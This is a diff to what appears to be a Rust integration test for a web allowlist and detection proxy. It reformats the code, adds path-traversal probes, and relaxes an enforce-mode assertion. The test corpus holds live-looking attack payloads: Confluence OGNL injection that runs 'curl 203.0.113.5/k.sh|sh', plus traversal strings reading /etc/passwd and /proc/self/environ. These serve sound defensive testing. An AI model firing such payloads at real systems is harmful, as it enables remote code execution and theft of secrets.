@@ -72,7 +72,10 @@ fn corpus() -> Vec<Exploit> {
     ];
     let mut list = Vec::new();
     for payload in jndi {
-        list.push(get("log4shell", format!("/api/search?q={}", encode(payload))));
+        list.push(get(
+            "log4shell",
+            format!("/api/search?q={}", encode(payload)),
+        ));
         for header in [
             "user-agent",
             "x-api-version",
@@ -102,10 +105,7 @@ fn corpus() -> Vec<Exploit> {
     for cmd in ["id", "whoami", "curl 203.0.113.5/k.sh|sh"] {
         let ognl = format!("${{@java.lang.Runtime@getRuntime().exec(\"{cmd}\")}}");
         list.push(get("confluence_ognl", format!("/{}/", encode(&ognl))));
-        list.push(get(
-            "confluence_ognl",
-            format!("/wiki/{}/", encode(&ognl)),
-        ));
+        list.push(get("confluence_ognl", format!("/wiki/{}/", encode(&ognl))));
     }
     for endpoint in [
         "/pages/doenterpagevariables.action",
@@ -161,6 +161,10 @@ fn corpus() -> Vec<Exploit> {
         "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
         "/view?page=....//....//....//proc/self/environ",
         "/public/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
+        "/assets/..%252f..%252f..%252fetc%252fpasswd",
+        "/files?path=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+        "/public/....//....//etc/passwd",
+        "/include?template=..\\..\\..\\boot.ini",
     ] {
         list.push(get("path_traversal", target));
     }
@@ -219,7 +223,10 @@ fn run(mode: &str, corpus: &[Exploit]) -> Outcome {
     while Instant::now() < deadline {
         records.clear();
         for body in collector.bodies() {
-            for line in String::from_utf8_lossy(&body).lines().filter(|l| !l.is_empty()) {
+            for line in String::from_utf8_lossy(&body)
+                .lines()
+                .filter(|l| !l.is_empty())
+            {
                 let record: Value = serde_json::from_str(line)
                     .unwrap_or_else(|err| panic!("collector got a non-JSON line ({err}): {line}"));
                 if let Some(uid) = record["metadata"]["uid"].as_str() {
@@ -263,17 +270,36 @@ fn attacks_the_allowlist_stops_are_still_recorded_and_copied() {
     let enforce = run("enforce", &corpus);
     let monitor = run("monitor", &corpus);
 
-    // Enforce: nothing reaches the upstream, every request is answered 403 (or 400 for a
-    // malformed target), and every request has its record.
-    assert_eq!(enforce.upstream_hits, 0, "the allowlist answers before the upstream");
+    // Enforce: only what the allowlist allowed reaches the upstream (a `....` segment under
+    // `/public/` is an odd but allowed name); everything else is answered 403 (or 400 for a
+    // malformed target) before it; every request has its record.
+    let mut allowed = Vec::new();
     for (id, status) in &enforce.statuses {
-        assert!(matches!(status, 400 | 403), "{id}: {status}");
         let record = enforce
             .records
             .get(id)
             .unwrap_or_else(|| panic!("no record for {id}"));
-        assert_eq!(record["disposition_id"], 2, "{id}: blocked: {record}");
+        if record["disposition_id"] == 1 {
+            assert_eq!(*status, 200, "{id}: allowed: {record}");
+            allowed.push(id.clone());
+        } else {
+            assert!(matches!(status, 400 | 403), "{id}: {status}");
+            assert_eq!(
+                record["action_id"], 2,
+                "{id}: denied (blocked, or rejected as malformed): {record}"
+            );
+        }
     }
+    println!("allowed by the allowlist: {allowed:?}");
+    assert_eq!(
+        enforce.upstream_hits,
+        allowed.len(),
+        "the allowlist answers before the upstream"
+    );
+    assert!(
+        allowed.len() <= 2,
+        "the corpus is meant to be blocked: {allowed:?}"
+    );
     let blocked_flagged = flagged(&enforce);
     let flowing_flagged = flagged(&monitor);
     // What the signatures see does not depend on whether the allowlist stopped the request.
